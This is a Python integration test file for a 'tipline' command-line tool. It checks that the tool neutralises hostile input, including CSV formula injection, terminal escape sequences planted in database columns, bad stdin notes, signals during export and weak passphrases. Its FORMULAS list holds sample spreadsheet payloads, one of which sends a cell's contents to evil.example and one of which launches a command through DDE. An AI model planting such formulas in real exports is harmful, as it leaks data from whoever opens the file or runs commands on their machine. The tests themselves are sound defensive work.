"""Integration tests of the CLI against hostile data and hostile
moments (issue 11): spreadsheet formulas in CSV exports, terminal
control planted in the database's clear columns, JSON output that is
printable ASCII only, review discarding typed-ahead input, --note - and
--to - read from stdin, signals during export -o, weak passphrases.

usage: /usr/bin/python3 tests/integration/test_cli_hardening.py --build build"""

import csv
import io
import json
import os
import pty
import select
import signal
import sqlite3
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import Stack, Runner  # noqa: E402
from test_cli import seal_like_the_server, our_public_key, jlines, TODAY  # noqa: E402

FORMULAS = ['=WEBSERVICE("https://evil.example/?q="&ENCODEURL(F2))', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def plant(st, ref, record, day=TODAY, status="new", db=None):
    """A report written past the CHECK constraints, as whoever holds
    the database file could."""
    env = seal_like_the_server(our_public_key(st), ref, json.dumps(record).encode())
    c = sqlite3.connect(db or st.db)
    c.execute("PRAGMA ignore_check_constraints = 1")
    c.execute("INSERT INTO reports (ref, day, status, envelope) VALUES (?, ?, ?, ?)",
              (ref, day, status, env))
    c.commit()
    c.close()


def unplant(st, *refs):
    c = sqlite3.connect(st.db)
    for ref in refs:
        c.execute("DELETE FROM status_history WHERE report_id IN "
                  "(SELECT id FROM reports WHERE ref = ?)", (ref,))
        c.execute("DELETE FROM reports WHERE ref = ?", (ref,))
    c.commit()
    c.close()


def env_of(st, **more):
    e = dict(os.environ, TIPLINE_DB=st.db, TIPLINE_KEY=st.key,
             TIPLINE_PASSPHRASE_FILE=st.passfile)
    e.update(more)
    return e


def run(st, *args, stdin=b"", **more):
    """(rc, stdout bytes, stderr text) of tipline with stdin bytes."""
    p = subprocess.run([os.path.join(st.build, "tipline")] + list(args), input=stdin,
                       env=env_of(st, **more), cwd=st.dir, capture_output=True, timeout=120)
    return p.returncode, p.stdout, p.stderr.decode("utf-8", "replace")


def record(**fields):
    return {"v": 1, "form": 1, "lang": "en", "fields": fields}


# 1. CSV formulas
def t_csv_formulas(st):
    refs = ["TL-F0RM-%04d" % i for i in range(len(FORMULAS))]
    for ref, f in zip(refs, FORMULAS):
        plant(st, ref, record(description=f, municipality=f, type="other"))
    plant(st, "TL-F0RM-PLAN", record(description="plain, -inside is fine", municipality="Sion"))
    try:
        rc, out, err = run(st, "export")
        assert rc == 0, err
        rows = list(csv.reader(io.StringIO(out.decode(), newline="")))
        byref = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
        for ref, f in zip(refs, FORMULAS):
            assert byref[ref]["municipality"] == "'" + f, byref[ref]
            assert byref[ref]["description"] == "'" + f, byref[ref]
            assert byref[ref]["type"] == "other"
        assert byref["TL-F0RM-PLAN"]["description"] == "plain, -inside is fine"
        assert byref["TL-F0RM-PLAN"]["municipality"] == "Sion"
        # --raw: exactly as written
        rc, out, err = run(st, "export", "--raw")
        assert rc == 0, err
        rows = list(csv.reader(io.StringIO(out.decode(), newline="")))
        byref = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
        for ref, f in zip(refs, FORMULAS):
            assert byref[ref]["municipality"] == f
        rc, _, err = run(st, "export", "--raw", "--format", "json")
        assert rc == 2 and "--raw" in err, err
        # a planted clear column is neutralised too
        plant(st, "TL-F0RM-DAY0", record(description="x"), day="=1+1", status="@x")
        rc, out, _ = run(st, "export")
        rows = list(csv.reader(io.StringIO(out.decode(), newline="")))
        row = [r for r in rows if r[0] == "TL-F0RM-DAY0"][0]
        assert row[1] == "'=1+1" and row[2] == "'@x", row
    finally:
        unplant(st, *refs, "TL-F0RM-PLAN", "TL-F0RM-DAY0")


# 3. Terminal control from the clear columns; JSON escapes
HOSTILE_DAY = "\x1b[c"
HOSTILE_STATUS = "\x1b]0;x\x07new"
JSON_TEXT = "csi \u009b2J del \x7f astral \U0001F600 bidi \u202e end"


def assert_no_raw_control(out, what):
    for bad in (b"\x1b", b"\x07", b"\xc2\x9b", b"\x9b"):
        assert bad not in out, (what, bad, out[-400:])


def t_terminal_control_from_clear_columns(st):
    ref = "TL-TERM-0001"
    plant(st, ref, record(description="planted day", type="other"), day=HOSTILE_DAY,
          status=HOSTILE_STATUS)
    try:
        for args in (["list"], ["show", ref], ["stats"], ["purge", "--dry-run", ref]):
            rc, out, err = run(st, *args)
            assert rc == 0, (args, err)
            assert_no_raw_control(out, args)
            assert b"\\x1b[c" in out, (args, out)
        # a history row with a planted day and status
        c = sqlite3.connect(st.db)
        c.execute("PRAGMA ignore_check_constraints = 1")
        c.execute("INSERT INTO status_history (report_id, day, status) SELECT id, ?, ? "
                  "FROM reports WHERE ref = ?", (HOSTILE_DAY, HOSTILE_STATUS, ref))
        c.commit()
        c.close()
        rc, out, err = run(st, "show", ref)
        assert rc == 0, err
        assert_no_raw_control(out, "show history")
        assert out.count(b"\\x1b[c") == 3, out
    finally:
        unplant(st, ref)


def t_json_output_is_printable_ascii(st):
    ref = "TL-JS0N-0001"
    plant(st, ref, record(description=JSON_TEXT, type="other"), day=HOSTILE_DAY,
          status=HOSTILE_STATUS)
    try:
        for args in (["list", "--json"], ["show", "--json", ref],
                     ["export", "--format", "json"], ["stats", "--json"]):
            rc, out, err = run(st, *args)
            assert rc == 0, (args, err)
            bad = [b for b in out if not (0x20 <= b < 0x7f or b == 0x0a)]
            assert not bad, (args, bad[:10], out[-300:])
            text = out.decode("ascii")
            if args[0] != "stats":
                low = text.lower()
                assert "\\u009b" in low and "\\u007f" in low, text
                assert "\\ud83d\\ude00" in low and "\\u202e" in low, text
                j = [x for x in jlines(text) if x["ref"] == ref][0]
                assert j["record"]["fields"]["description"] == JSON_TEXT
                assert j["day"] == HOSTILE_DAY and j["status"] == HOSTILE_STATUS
            else:
                assert HOSTILE_STATUS in json.loads(text)["status"], text
    finally:
        unplant(st, ref)


def review_pty(st, typed_ahead):
    """Runs review on a pty with typed_ahead already waiting in the
    terminal's input before the program starts; answers q to the first
    question. Returns (exit status, output)."""
    rfd, wfd = os.pipe()
    pid, fd = pty.fork()
    if pid == 0:
        os.close(wfd)
        os.read(rfd, 1)         # wait until the parent has typed ahead
        os.execve(os.path.join(st.build, "tipline"), ["tipline", "review"], env_of(st))
    os.close(rfd)
    os.write(fd, typed_ahead)
    os.write(wfd, b"x")
    os.close(wfd)
    out = b""
    end = time.monotonic() + 60
    status = None
    try:
        sent = False
        while time.monotonic() < end:
            r, _, _ = select.select([fd], [], [], 0.5)
            if r:
                try:
                    chunk = os.read(fd, 4096)
                except OSError:
                    chunk = b""
                if not chunk:
                    break
                out += chunk
            if not sent and b"[q]uit: " in out:
                os.write(fd, b"q")
                sent = True
            done, st_ = os.waitpid(pid, os.WNOHANG)
            if done:
                status = st_
                break
        # What the program wrote just before it exited may still wait
        # in the pty: read it to the end (EOF, or EIO once drained).
        while status is not None and select.select([fd], [], [], 2)[0]:
            try:
                chunk = os.read(fd, 4096)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
    finally:
        if status is None:
            for _ in range(100):
                done, st_ = os.waitpid(pid, os.WNOHANG)
                if done:
                    status = st_
                    break
                time.sleep(0.1)
            else:
                os.kill(pid, signal.SIGKILL)
                _, status = os.waitpid(pid, 0)
        os.close(fd)
    return status, out


def t_review_escapes_and_discards_typed_ahead(st):
    ref = "TL-REVW-0001"
    others = [r[0] for r in st.query("SELECT ref FROM reports WHERE status = 'new'")]
    assert not others, others
    plant(st, ref, record(description="review me", type="other"), day=HOSTILE_DAY)
    try:
        # "c" stands for a terminal's answer to ESC [ c arriving as input
        status, out = review_pty(st, b"c")
        assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0, out[-500:]
        assert b"review me" in out, out[-500:]
        assert b"\x1b[c" not in out and b"\\x1b[c" in out, out[-500:]
        got = st.query("SELECT status FROM reports WHERE ref = ?", ref)[0][0]
        assert got == "new", got
        assert b"Reviewed 1 of 1; 0 decided." in out, out[-300:]
    finally:
        unplant(st, ref)


# 5. --note - and --to - from stdin
def history(st, ref):
    return jlines(run(st, "show", "--json", ref)[1].decode())[0]["history"]


def t_status_note_and_to_from_stdin(st):
    ref = "TL-N0TE-0001"
    plant(st, ref, record(description="notes from stdin", type="other"))
    try:
        note = "Called the police.\nThey know the site; \"no pay\", Ümlaut."
        rc, out, err = run(st, "status", ref, "in-review", "--note", "-",
                           stdin=(note + "\n").encode())
        assert rc == 0, err
        assert history(st, ref) == [{"day": TODAY, "status": "in-review", "note": note}]
        rc, out, err = run(st, "status", ref, "forwarded", "--to", "-",
                           stdin=b"cantonal police ZH\n")
        assert rc == 0, err
        assert history(st, ref)[-1] == {"day": TODAY, "status": "forwarded",
                                        "to": "cantonal police ZH"}, history(st, ref)
        before = history(st, ref)
        for args, data in ((["--note", "-"], b""), (["--note", "-"], b"\n"),
                           (["--note", "-"], b"x" * 2001),
                           (["--note", "-"], "é".encode() * 2001),
                           (["--note", "-"], b"bad \xff\xfe utf-8"),
                           (["--note", "-"], b"ab\x00cd"),
                           (["--note", "-"], b"esc \x1b[31m"),
                           (["--to", "-"], b""), (["--to", "-"], b"y" * 201),
                           (["--to", "-"], b"two\nlines"),
                           (["--to", "-", "--note", "-"], b"both\n")):
            status = "forwarded" if "--to" in args else "closed"
            rc, _, err = run(st, "status", ref, status, *args, stdin=data)
            assert rc != 0 and "error" in err, (args, data[:20], rc, err)
            assert history(st, ref) == before, (args, data[:20])
        # exactly 2000 characters is accepted
        rc, _, err = run(st, "status", ref, "closed", "--note", "-",
                         stdin="é".encode() * 2000)
        assert rc == 0, err
        assert history(st, ref)[-1]["note"] == "é" * 2000
    finally:
        unplant(st, ref)


# 10. Signals during export -o
def fill(st, n):
    """A copy of the database with n planted reports; returns its path."""
    path = os.path.join(st.dir, "many.db")
    src = sqlite3.connect(st.db)
    dst = sqlite3.connect(path)
    src.backup(dst)
    src.close()
    pk = our_public_key(st)
    alpha = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
    rows = []
    for i in range(n):
        a = "".join(alpha[(i >> (5 * k)) & 31] for k in range(4))
        ref = "TL-MANY-" + a
        rec = record(description="bulk report %d " % i + "x" * 600, type="other")
        rows.append((ref, TODAY, seal_like_the_server(pk, ref, json.dumps(rec).encode())))
    dst.executemany("INSERT INTO reports (ref, day, envelope) VALUES (?, ?, ?)", rows)
    dst.commit()
    dst.close()
    return path


def export_fds(pid, outdir):
    """Sizes of the files under outdir that pid holds open."""
    sizes = []
    try:
        for fd in os.listdir("/proc/%d/fd" % pid):
            try:
                target = os.readlink("/proc/%d/fd/%s" % (pid, fd))
                if target.startswith(outdir + "/"):
                    sizes.append(os.stat("/proc/%d/fd/%s" % (pid, fd)).st_size)
            except OSError:
                pass
    except OSError:
        pass
    return sizes


def t_export_signals_leave_nothing(st):
    db = fill(st, 20000)
    outdir = os.path.join(st.dir, "exports")
    os.mkdir(outdir)
    target = os.path.join(outdir, "all.csv")
    for sig in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
        p = subprocess.Popen([os.path.join(st.build, "tipline"), "export", "-o", target],
                             env=env_of(st, TIPLINE_DB=db), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        try:
            end = time.monotonic() + 60
            while not any(s > 0 for s in export_fds(p.pid, outdir)):
                assert p.poll() is None, "export ended before it was caught writing"
                assert time.monotonic() < end, "export never started writing"
                time.sleep(0.002)
            p.send_signal(signal.SIGSTOP)       # mid-way, held still
            assert not os.path.exists(target), "export finished too fast to test"
            p.send_signal(sig)
            p.send_signal(signal.SIGCONT)
            rc = p.wait(30)
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()
        assert rc == -sig, (sig, rc)
        assert os.listdir(outdir) == [], (sig, os.listdir(outdir))
    # and with nothing in the way it completes
    rc, _, err = run(st, "export", "-o", target, TIPLINE_DB=db)
    assert rc == 0, err
    with open(target, newline="") as f:
        assert len(list(csv.reader(f))) >= 20001
    assert os.listdir(outdir) == ["all.csv"]
    os.unlink(db)


# 11. Weak passphrases
def t_weak_passphrase_refused(st):
    d = os.path.join(st.dir, "weak")
    os.mkdir(d)

    def passfile(name, text):
        path = os.path.join(d, name)
        with open(path, "w") as f:
            f.write(text + "\n")
        return path
    short = passfile("short", "elevenchars")            # 11
    twelve = passfile("twelve", "twelve chars")         # 12
    umlauts = passfile("umlauts", "ääääääääääää"[:11])   # 11 characters, 22 bytes
    for pf in (short, umlauts):
        rc, _, err = run(st, "keygen", "-o", os.path.join(d, "k"), "--passphrase-file", pf)
        assert rc == 1 and "12 characters" in err, (rc, err)
        assert os.listdir(d) == ["short", "twelve", "umlauts"] or \
            sorted(os.listdir(d)) == ["short", "twelve", "umlauts"], os.listdir(d)
    rc, _, err = run(st, "keygen", "-o", os.path.join(d, "k"), "--passphrase-file", short,
                     TIPLINE_WEAK_PASSPHRASE_OK="yes")
    assert rc == 1, "only 1 is the escape"
    rc, _, err = run(st, "keygen", "-o", os.path.join(d, "demo"), "--passphrase-file", short,
                     TIPLINE_WEAK_PASSPHRASE_OK="1")
    assert rc == 0, err
    rc, _, err = run(st, "keygen", "-o", os.path.join(d, "k"), "--passphrase-file", twelve)
    assert rc == 0, err
    key = os.path.join(d, "k.key")
    with open(key) as f:
        before = f.read()
    rc, _, err = run(st, "passwd", "--key", key, "--new-passphrase-file", short,
                     TIPLINE_PASSPHRASE_FILE=twelve)
    assert rc == 1 and "12 characters" in err, (rc, err)
    with open(key) as f:
        assert f.read() == before
    assert not [n for n in os.listdir(d) if ".new-" in n]
    # a key made with the escape still unlocks without it
    rc, _, err = run(st, "pubkey", "--key", os.path.join(d, "demo.key"),
                     TIPLINE_PASSPHRASE_FILE=short)
    assert rc == 0, err
    rc, _, err = run(st, "passwd", "--key", key, "--new-passphrase-file", short,
                     TIPLINE_PASSPHRASE_FILE=twelve, TIPLINE_WEAK_PASSPHRASE_OK="1")
    assert rc == 0, err


def main():
    build = sys.argv[sys.argv.index("--build") + 1] if "--build" in sys.argv else "build"
    r = Runner()
    st = Stack(build)
    try:
        r.run("export_csv_neutralises_formulas_raw_keeps_them", t_csv_formulas, st)
        r.run("terminal_control_in_clear_columns_is_escaped",
              t_terminal_control_from_clear_columns, st)
        r.run("json_output_is_printable_ascii", t_json_output_is_printable_ascii, st)
        r.run("review_escapes_clear_columns_and_discards_typed_ahead_input",
              t_review_escapes_and_discards_typed_ahead, st)
        r.run("status_note_and_to_read_from_stdin", t_status_note_and_to_from_stdin, st)
        r.run("export_signals_leave_no_decrypted_temp_file",
              t_export_signals_leave_nothing, st)
        r.run("weak_passphrase_refused_by_keygen_and_passwd", t_weak_passphrase_refused, st)
        r.run("no_sanitizer_reports_in_logs", st.assert_no_sanitizer_reports)
    finally:
        st.stop()
        st.cleanup(keep=r.failed > 0)
    return 1 if r.failed else 0


if __name__ == "__main__":
    sys.exit(main())
